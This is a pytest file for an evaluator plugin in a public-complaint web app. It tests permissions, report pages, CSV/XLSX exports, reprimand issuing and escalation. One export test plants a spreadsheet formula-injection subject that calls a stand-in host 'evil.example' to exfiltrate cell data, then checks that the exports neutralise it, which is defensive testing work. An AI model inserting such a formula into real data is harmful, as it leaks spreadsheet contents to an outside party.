"""The evaluator's pages and API in the real web app (SQLite, every installed plugin)."""

from __future__ import annotations

import csv
import io
from typing import Any

import anyio
import openpyxl
import pytest
from evaluator_support import World, build
from litestar.testing import TestClient

from aspirasi_core.plugins import collect_policy
from aspirasi_core.services import SubmitInput

PAGES_GET = [
    "/evaluator",
    "/evaluator/messages",
    "/evaluator/report.csv",
    "/evaluator/report.xlsx",
    "/evaluator/messages.csv",
    "/evaluator/messages.xlsx",
    "/evaluator/reprimands/new?agency={pupr}",
]
API_GET = ["/api/v1/evaluator/report", "/api/v1/evaluator/messages"]


def fill(w: World, path: str) -> str:
    return path.format(pupr=w.ids["pupr"])


def issue(w: World, username: str = "eval_admin", **body: Any) -> Any:
    payload = {
        "agency_id": w.ids["pupr"],
        "message_ids": [w.ids["p1"], w.ids["p2"]],
        "text": "Segera tindak lanjuti pesan yang terlambat.",
    }
    payload.update(body)
    return w.api("POST", "/api/v1/evaluator/reprimands", username, json=payload)


# ----------------------------------------------------------------------------- access


@pytest.mark.parametrize("username", ["ani", "admin", "op_pupr"])
def test_without_the_permission_every_evaluator_route_is_refused(world, username):
    for path in PAGES_GET:
        assert world.get(fill(world, path), username).status_code == 403, path
    for path in API_GET:
        answer = world.get(path, username)
        assert answer.status_code == 403, path
        assert answer.headers["content-type"].startswith("application/problem+json")
    posted = world.api(
        "POST", "/evaluator/reprimands", username, data={"agency_id": str(world.ids["pupr"])}
    )
    assert posted.status_code == 403
    assert issue(world, username).status_code == 403
    home = world.get("/backoffice", username).text if username != "ani" else ""
    assert 'href="/evaluator"' not in home


#: A form whose field cannot be read (not UTF-8): the app answers 400 once it parses it.
UNREADABLE_FORM = (
    b'--XX\r\nContent-Disposition: form-data; name="text"\r\n\r\n\xff\xfe\xfd\r\n--XX--\r\n'
)


def test_a_role_that_may_never_reprimand_is_refused_before_its_form_is_read(world):
    """The route's guard answers 403 first: the unreadable form would be a 400
    (a bearer token needs no CSRF token, so nothing reads the body before it)."""
    headers = {"Content-Type": "multipart/form-data; boundary=XX"}
    for username in ("ani", "admin", "op_pupr"):
        refused = world.client.post(
            "/evaluator/reprimands",
            content=UNREADABLE_FORM,
            headers={**headers, **world.bearer(username)},
            follow_redirects=False,
        )
        assert refused.status_code == 403, username
        assert refused.headers["content-type"].startswith("text/html")
    read = world.client.post(
        "/evaluator/reprimands",
        content=UNREADABLE_FORM,
        headers={**headers, **world.bearer("eval_admin")},
        follow_redirects=False,
    )
    assert read.status_code == 400


def test_anonymous_visitors_log_in_first(world):
    for path in PAGES_GET:
        answer = world.get(fill(world, path))
        assert answer.status_code == 302, path
        assert answer.headers["location"].startswith("/login")
    for path in [*API_GET, "/api/v1/reprimands"]:
        assert world.get(path).status_code == 401, path
    assert world.api("POST", "/api/v1/evaluator/reprimands", None, json={}).status_code in (
        401,
        403,  # no CSRF token either: refused before the handler
    )
    assert world.get("/reprimands").status_code == 302


def test_citizens_and_admins_see_no_reprimands(world):
    for username in ("ani", "admin"):
        assert world.get("/reprimands", username).status_code == 403
        assert world.get("/api/v1/reprimands", username).status_code == 403


def test_an_evaluator_reads_any_message_but_cannot_act_on_it(world):
    mid = world.ids["p1"]  # forwarded to pupr; eval_op is an operator of dinkes
    assert world.get(f"/backoffice/messages/{mid}", "eval_op").status_code == 200
    assert world.get(f"/api/v1/messages/{mid}", "eval_op").status_code == 200
    assert world.get(f"/backoffice/messages/{mid}", "op_dinkes").status_code == 404
    start = world.api("POST", f"/api/v1/messages/{mid}/start", "eval_op", json={})
    assert start.status_code == 404
    page = world.api("POST", f"/backoffice/messages/{mid}/start", "eval_op", data={"confirm": "1"})
    assert page.status_code == 404
    progress = world.api(
        "POST", f"/api/v1/messages/{mid}/progress", "eval_op", json={"note": "Sedang dicek"}
    )
    assert progress.status_code == 404
    reject = world.api(
        "POST", f"/api/v1/messages/{world.ids['fresh']}/reject", "eval_op", json={"reason": "x"}
    )
    assert reject.status_code == 403


def test_the_menu_shows_evaluation_to_holders_and_reprimands_to_operators(world):
    html = world.get("/backoffice", "eval_op").text
    assert 'href="/evaluator"' in html and 'href="/reprimands"' in html
    assert "Evaluasi" in html and "Teguran" in html
    operator = world.get("/backoffice", "op_pupr").text
    assert 'href="/evaluator"' not in operator and 'href="/reprimands"' in operator
    admin = world.get("/backoffice", "admin").text
    assert 'href="/evaluator"' not in admin and 'href="/reprimands"' not in admin
    root = world.get("/backoffice", "root").text
    assert 'href="/evaluator"' in root


# ----------------------------------------------------------------------------- report


def test_the_report_page_counts_links_and_draws_the_chart(world):
    html = world.get("/evaluator", "eval_op").text
    # The statuses by the names every other page gives them.
    assert "Belum dikonfirmasi" in html and "Terkirim" in html
    assert "Belum diteruskan" not in html and "Diproses" not in html
    assert "Dinas pupr" in html and "Dinas dinkes" in html
    pupr = world.ids["pupr"]
    base = "/evaluator/messages?from=2026-01-01&amp;to=2026-12-31"
    assert f'href="{base}&amp;agency={pupr}&amp;status=forwarded">3</a>' in html
    assert f'href="{base}&amp;agency={pupr}&amp;overdue=1">2</a>' in html
    assert f'href="{base}&amp;agency=none&amp;status=submitted">1</a>' in html
    assert f"/evaluator/reprimands/new?agency={world.ids['pupr']}" in html
    assert "<svg" in html and 'role="img"' in html and '<title id="chart-title">' in html
    assert '<desc id="chart-desc">' in html
    assert "<script" not in html.split("<svg", 1)[1].split("</svg>", 1)[0]
    english = world.get("/evaluator?lang=en", "eval_op").text
    assert "Not yet confirmed" in english and "Evaluation" in english


def test_the_date_inputs_name_the_chosen_days_in_the_long_style(world):
    query = "from=2026-01-01&to=2026-12-31"
    html = world.get(f"/evaluator?{query}", "eval_op").text
    # the inputs keep ISO values (HTML needs them); the hints say the days in words
    assert 'value="2026-01-01"' in html and 'value="2026-12-31"' in html
    assert '<p class="hint" id="h-from">Kamis, 1 Januari 2026</p>' in html
    assert '<p class="hint" id="h-to">Kamis, 31 Desember 2026. ' in html
    english = world.get(f"/evaluator?{query}&lang=en", "eval_op").text
    assert '<p class="hint" id="h-from">Thursday, 1 January 2026</p>' in english


def test_the_report_api_has_the_tables(world):
    body = world.get("/api/v1/evaluator/report?from=2026-01-01&to=2026-12-31", "eval_op").json()
    assert body["from"] == "2026-01-01" and body["to"] == "2026-12-31"
    agencies = {a["code"]: a for a in body["agencies"]}
    assert agencies["pupr"]["counts"]["forwarded"] == 3
    assert agencies["pupr"]["overdue"] == 2
    assert agencies["dinkes"]["overdue"] == 1
    assert body["total"]["total"] == 5
    assert body["total"]["counts"]["submitted"] == 1
    assert next(a for a in body["agencies"] if a["id"] is None)["counts"]["submitted"] == 1
    assert sum(p["submitted"] for p in body["trend"]["points"]) == 5


@pytest.mark.parametrize(
    ("query", "field", "code"),
    [
        ("from=2026-02-30&to=2026-03-01", "from", "date_format"),
        ("from=2026-05-01&to=2026-04-01", "to", "range_order"),
        ("from=2020-01-01&to=2026-01-01", "to", "range_too_long"),
    ],
)
def test_bad_dates_are_translated_errors_not_crashes(world, query, field, code):
    api = {
        lang: world.get(f"/api/v1/evaluator/report?{query}&lang={lang}", "eval_op")
        for lang in ("id", "en")
    }
    for answer in api.values():
        assert answer.status_code == 422
        assert answer.headers["content-type"].startswith("application/problem+json")
        assert [(e["field"], e["code"]) for e in answer.json()["errors"]] == [(field, code)]
    assert api["id"].json()["errors"][0]["message"] != api["en"].json()["errors"][0]["message"]
    page = world.get(f"/evaluator?{query}", "eval_op")
    assert page.status_code == 422
    assert 'aria-invalid="true"' in page.text
    assert api["id"].json()["errors"][0]["message"] in page.text.replace("&#39;", "'")
    assert "<form" in page.text


def test_the_drill_down_lists_the_messages_behind_a_count(world):
    pupr = world.ids["pupr"]
    html = world.get(f"/evaluator/messages?agency={pupr}&overdue=1", "eval_admin").text
    assert "Subject p1" in html and "Subject p2" in html
    assert "Subject p3" not in html and "Subject d1" not in html
    assert f'href="/backoffice/messages/{world.ids["p1"]}"' in html
    none = world.get("/api/v1/evaluator/messages?agency=none&status=submitted", "eval_admin")
    assert [i["id"] for i in none.json()["items"]] == [world.ids["fresh"]]
    bad = world.get("/api/v1/evaluator/messages?status=withdrawn", "eval_admin")
    assert bad.status_code == 422
    assert world.get("/evaluator/messages?agency=x", "eval_admin").status_code == 422


# ----------------------------------------------------------------------------- exports


def _evil_message(world: World) -> int:
    subject = '=HYPERLINK("http://evil.example/?x="&A1,"Klik")'

    async def go() -> int:
        m = await world.core.messages.submit(
            world.ctx("ani"), SubmitInput(subject=subject, body="Isi.")
        )
        return m.id

    return anyio.run(go)


def test_exports_neutralise_formulas_and_name_the_file_safely(world):
    _evil_message(world)
    csv_answer = world.get("/evaluator/messages.csv?status=submitted", "eval_op")
    assert csv_answer.status_code == 200
    assert csv_answer.headers["content-type"].startswith("text/csv")
    assert csv_answer.headers["content-disposition"] == (
        'attachment; filename="evaluasi-pesan-2026-01-01_2026-12-31.csv"'
    )
    rows = list(csv.reader(io.StringIO(csv_answer.content.decode("utf-8-sig"))))
    subjects = [r[2] for r in rows[1:]]
    assert '\'=HYPERLINK("http://evil.example/?x="&A1,"Klik")' in subjects
    assert not any(s.startswith(("=", "+", "-", "@")) for r in rows for s in r)

    xlsx = world.get("/evaluator/messages.xlsx?status=submitted", "eval_op")
    assert xlsx.status_code == 200
    assert xlsx.headers["content-disposition"].endswith('.xlsx"')
    sheet = openpyxl.load_workbook(io.BytesIO(xlsx.content)).active
    cells = [c for row in sheet.iter_rows() for c in row if str(c.value).startswith("=HYP")]
    assert len(cells) == 1
    assert cells[0].data_type == "s"
    assert cells[0].value.startswith('=HYPERLINK("http://evil.example')


def test_the_report_exports_hold_the_tables(world):
    answer = world.get("/evaluator/report.csv?from=2026-01-01&to=2026-12-31", "eval_op")
    text = answer.content.decode("utf-8-sig")
    assert "Dinas pupr" in text and "Belum dikonfirmasi" in text
    rows = list(csv.reader(io.StringIO(text)))
    [pupr] = [r for r in rows if r and r[0] == "Dinas pupr"]
    assert pupr[1:8] == ["0", "3", "0", "0", "0", "3", "2"]
    book = openpyxl.load_workbook(
        io.BytesIO(world.get("/evaluator/report.xlsx", "eval_op").content)
    )
    assert len(book.sheetnames) == 4
    first = book[book.sheetnames[0]]
    values = {row[0].value: row for row in first.iter_rows(min_row=2)}
    assert values["Dinas pupr"][2].value == 3 and values["Dinas pupr"][2].data_type == "n"


# ----------------------------------------------------------------------------- reprimands


def test_a_reprimand_reaches_the_agencys_operators_and_no_one_else(world):
    before = len(world.mails())
    answer = issue(world)
    assert answer.status_code == 201, answer.text
    body = answer.json()
    assert body["agency"]["id"] == world.ids["pupr"]
    assert [m["id"] for m in body["messages"]] == sorted([world.ids["p1"], world.ids["p2"]])
    mails = world.mails()[before:]
    assert sorted(m["to"] for m in mails) == ["op-pupr2@example.org", "op-pupr@example.org"]
    assert {m["kind"] for m in mails} == {"evaluator_reprimand"}
    assert "Teguran" in mails[0]["subject"]
    assert "Segera tindak lanjuti" in mails[0]["text"]
    assert "https://aspirasi.example.org/reprimands" in mails[0]["text"]
    # In-app notifications: the agency's operators only.
    for username, count in (("op_pupr", 1), ("op_pupr2", 1), ("op_dinkes", 0), ("eval_op", 0)):
        notes = world.get("/api/v1/notifications", username).json()["items"]
        assert sum(n["kind"] == "evaluator_reprimand" for n in notes) == count, username
    # The report counts it for the agency.
    report = world.get("/api/v1/evaluator/report", "eval_op").json()
    assert {a["code"]: a["reprimands"] for a in report["agencies"] if a["code"]} == {
        "pupr": 1,
        "dinkes": 0,
    }


def test_reprimanding_another_agencys_message_or_without_a_reason_is_refused(world):
    cases = [
        ({"message_ids": [world.ids["d1"]]}, "message_ids", "other_agency"),
        ({"reason": "because"}, "reason", "reason_required"),
        ({"message_ids": [world.ids["fresh"]]}, "message_ids", "other_agency"),
        ({"message_ids": []}, "message_ids", "messages_required"),
        ({"text": "   "}, "text", "text_required"),
        ({"text": "x" * 4001}, "text", "text_too_long"),
    ]
    for body, field, code in cases:
        answer = issue(world, **body)
        assert answer.status_code == 422, (body, answer.text)
        assert [(e["field"], e["code"]) for e in answer.json()["errors"]] == [(field, code)]
    unknown = issue(world, agency_id=999_999)
    assert unknown.status_code == 422
    assert world.get("/api/v1/reprimands", "eval_admin").json()["items"] == []
    assert world.mails() and all(m["kind"] != "evaluator_reprimand" for m in world.mails())


def test_the_form_lists_open_messages_needs_csrf_and_shows_errors(world):
    world.login("eval_op")
    pupr = world.ids["pupr"]
    form = world.client.get(f"/evaluator/reprimands/new?agency={pupr}")
    assert form.status_code == 200
    assert f'value="{world.ids["p1"]}"' in form.text and f'value="{world.ids["p2"]}"' in form.text
    # Not overdue, still open: it may be named too, after the overdue ones.
    assert f'value="{world.ids["p3"]}"' in form.text
    assert form.text.index(f'value="{world.ids["p2"]}"') < form.text.index(
        f'value="{world.ids["p3"]}"'
    )
    data = {
        "agency_id": str(pupr),
        "message_ids": [str(world.ids["p1"]), str(world.ids["p3"])],
        "text": "Tegur.",
        "reason": "not_followed_up",
    }
    no_token = world.client.post("/evaluator/reprimands", data=data, follow_redirects=False)
    assert no_token.status_code == 403
    wrong = world.client.post(
        "/evaluator/reprimands",
        data={**data, "reason": "", "_csrf_token": world.csrf()},
        follow_redirects=False,
    )
    assert wrong.status_code == 422
    assert "Pilih alasan teguran." in wrong.text
    done = world.client.post(
        "/evaluator/reprimands", data={**data, "_csrf_token": world.csrf()}, follow_redirects=False
    )
    assert done.status_code == 303
    assert done.headers["location"] == f"/reprimands?agency={pupr}"
    listed = world.client.get(f"/reprimands?agency={pupr}")
    assert "Teguran terkirim ke Dinas pupr." in listed.text
    assert "Tegur." in listed.text and "Subject p1" in listed.text and "Subject p3" in listed.text
    assert "Pesan tidak ditindaklanjuti" in listed.text and "Teguran pertama" in listed.text
    # p1 was overdue, p3 not: only p1 is marked.
    item = listed.text.split("Subject p1")[1].split("</li>")[0]
    assert "Terlambat" in item
    assert "Terlambat" not in listed.text.split("Subject p3")[1].split("</li>")[0]


def test_repeated_reprimands_escalate(world):
    levels = []
    for _ in range(4):
        answer = issue(world, reason="overdue")
        assert answer.status_code == 201, answer.text
        levels.append(answer.json()["level"])
    assert levels == [1, 2, 3, 3]
    page = world.get("/reprimands", "eval_op").text
    assert "Laporan ke Kantor Gubernur" in page and "Peringatan" in page
    # Where reprimands are listed: each agency's count and level of the period.
    standing = page.split('id="h-escalation"')[1].split("</table>")[0]
    assert "Dinas pupr" in standing and '<td data-label="Teguran">4</td>' in standing
    assert "Laporan ke Kantor Gubernur" in standing
    # The agency's operators see where their agency stands too.
    assert "Laporan ke Kantor Gubernur" in world.get("/reprimands", "op_pupr").text
    # A reprimand of another agency starts its own count.
    other = issue(world, agency_id=world.ids["dinkes"], message_ids=[world.ids["d1"]])
    assert other.json()["level"] == 1


def test_operators_see_and_acknowledge_only_their_agencys_reprimands_once(world):
    rid = issue(world).json()["id"]
    mine = world.get("/api/v1/reprimands", "op_pupr").json()["items"]
    assert [r["id"] for r in mine] == [rid]
    assert world.get("/api/v1/reprimands", "op_dinkes").json()["items"] == []
    assert "Segera tindak lanjuti" not in world.get("/reprimands", "op_dinkes").text
    # Another agency's operator: as if it did not exist.
    other = world.api(
        "POST", f"/api/v1/reprimands/{rid}/acknowledge", "op_dinkes", json={"response": "x"}
    )
    assert other.status_code == 404
    missing = world.api(
        "POST", "/api/v1/reprimands/999999/acknowledge", "op_pupr", json={"response": "x"}
    )
    assert missing.status_code == 404
    # An evaluator sees it but does not answer for the agency.
    evaluator = world.api(
        "POST", f"/api/v1/reprimands/{rid}/acknowledge", "eval_op", json={"response": "x"}
    )
    assert evaluator.status_code == 403
    empty = world.api(
        "POST", f"/api/v1/reprimands/{rid}/acknowledge", "op_pupr", json={"response": ""}
    )
    assert empty.status_code == 422
    # The page form: CSRF required, then once only.
    world.login("op_pupr")
    page = world.client.get("/reprimands")
    assert f'action="/reprimands/{rid}/acknowledge"' in page.text
    no_token = world.client.post(
        f"/reprimands/{rid}/acknowledge", data={"response": "Siap"}, follow_redirects=False
    )
    assert no_token.status_code == 403
    before = len(world.mails())
    ok = world.client.post(
        f"/reprimands/{rid}/acknowledge",
        data={"response": "Siap, segera ditindaklanjuti.", "_csrf_token": world.csrf()},
        follow_redirects=False,
    )
    assert ok.status_code == 303
    again = world.api(
        "POST", f"/api/v1/reprimands/{rid}/acknowledge", "op_pupr2", json={"response": "Lagi"}
    )
    assert again.status_code == 409
    assert again.json()["code"] == "reprimand_already_acknowledged"
    [item] = world.get("/api/v1/reprimands", "eval_admin").json()["items"]
    assert item["acknowledged"] is True
    assert item["acknowledged_by"]["id"] == world.ids["op_pupr"]
    assert item["response"] == "Siap, segera ditindaklanjuti."
    mails = world.mails()[before:]
    assert [(m["kind"], m["to"]) for m in mails] == [
        ("evaluator_reprimand_acknowledged", "eval-admin@example.org")
    ]
    world.login("op_pupr")
    twice = world.client.post(
        f"/reprimands/{rid}/acknowledge",
        data={"response": "Lagi", "_csrf_token": world.csrf()},
        follow_redirects=False,
    )
    assert twice.status_code == 409
    assert "sudah ditanggapi" in twice.text


# ----------------------------------------------------------------------------- disabled


def test_disabling_the_plugin_removes_menus_routes_and_permission(sqlite_database, tmp_path):
    app, core = build(sqlite_database, tmp_path, disabled_plugins=("evaluator",))
    assert "evaluator.evaluate" not in collect_policy(core.plugin_manager).permissions
    w = World(core=core)
    root = core.admin.create_superadmin("root@example.org", "root", "a-long-test-password")
    w.ids["root"] = root.id
    with TestClient(app=app, base_url="http://127.0.0.1:8000") as client:
        w.client = client
        for path in [
            "/evaluator",
            "/evaluator/report.csv",
            "/reprimands",
            "/api/v1/evaluator/report",
            "/api/v1/reprimands",
        ]:
            assert w.get(path, "root").status_code == 404, path
        assert w.api("POST", "/api/v1/evaluator/reprimands", "root", json={}).status_code in (
            404,
            405,
        )
        home = w.get("/backoffice", "root")
        assert home.status_code == 200
        assert 'href="/evaluator"' not in home.text and 'href="/reprimands"' not in home.text
        assert w.get("/api/v1/admin/agencies", "root").status_code == 200


def test_evaluators_see_the_oversight_reviews(world):
    # evaluator.evaluate brings the core's oversight.review (PermissionDecl.implies).
    assert world.get("/api/v1/reviews", "eval_op").status_code == 200
    assert world.get("/api/v1/reviews", "op_pupr").status_code == 403


def test_xlsxwriter_is_imported_by_the_first_export_not_with_the_plugin():
    """Its modules are ~11 MB of every worker's memory (docs/performance.md, Worker
    memory on SQLite); a fresh interpreter loads the plugin's routes without it."""
    import subprocess
    import sys

    code = (
        "import sys, aspirasi_evaluator, aspirasi_evaluator.web, aspirasi_evaluator.export\n"
        "assert 'xlsxwriter' not in sys.modules, 'imported with the plugin'\n"
        "aspirasi_evaluator.export.to_xlsx([('T', ['a'], [[1]])])\n"
        "assert 'xlsxwriter' in sys.modules\n"
    )
    subprocess.run([sys.executable, "-c", code], check=True)
